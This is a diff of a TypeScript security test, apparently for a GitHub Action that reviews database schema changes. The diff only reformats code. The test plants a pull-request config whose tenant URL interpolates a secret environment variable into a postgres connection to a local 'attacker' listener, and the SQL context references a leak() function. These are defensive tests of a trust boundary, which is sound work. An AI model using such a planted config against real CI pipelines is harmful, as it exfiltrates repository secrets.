@@ -62,7 +62,17 @@ describe('mode review, trust boundary', () => {
     api = fakeGitHub();
     const attacker = await connectionCounter();
     try {
-      const headConfig = ['schema: ../db/schema.sql', 'tenants:', '  list:', '    - id: evil', `      url: postgres://x:\${PLANTED}@127.0.0.1:${attacker.port}/\${PLANTED}`, 'lint:', '  rules:', '    drop-column: off', ''].join('\n');
+      const headConfig = [
+        'schema: ../db/schema.sql',
+        'tenants:',
+        '  list:',
+        '    - id: evil',
+        `      url: postgres://x:\${PLANTED}@127.0.0.1:${attacker.port}/\${PLANTED}`,
+        'lint:',
+        '  rules:',
+        '    drop-column: off',
+        '',
+      ].join('\n');
       api.setFiles(BASE, { 'schemafleet.yml': CONFIG, 'db/schema.sql': BASE_SQL });
       api.setFiles(HEAD, { 'schemafleet.yml': CONFIG, '.github/schemafleet.yml': headConfig, 'db/schema.sql': HEAD_SQL });
       const { code, core } = await review({ env: { PLANTED: 'planted-secret-value' } });
@@ -123,7 +133,9 @@ CREATE TABLE parted_1 PARTITION OF parted FOR VALUES IN (leak());
     const { code, core } = await review({ inputs: { 'review-time-budget': '2' } });
     expect(Date.now() - started).toBeLessThan(10_000);
     expect(code).toBe(1);
-    expect(api.comments[0]!.body).toMatch(/db\/schema\.sql:\d+:1: the review's time budget \(2 s for every statement of the base and head schemas\) ran out while this statement ran: CREATE TABLE t\d PARTITION OF t/);
+    expect(api.comments[0]!.body).toMatch(
+      /db\/schema\.sql:\d+:1: the review's time budget \(2 s for every statement of the base and head schemas\) ran out while this statement ran: CREATE TABLE t\d PARTITION OF t/,
+    );
     expect(String(core.calls.find((c) => c.kind === 'setFailed')?.args[0])).toContain('does not load');
   });
 
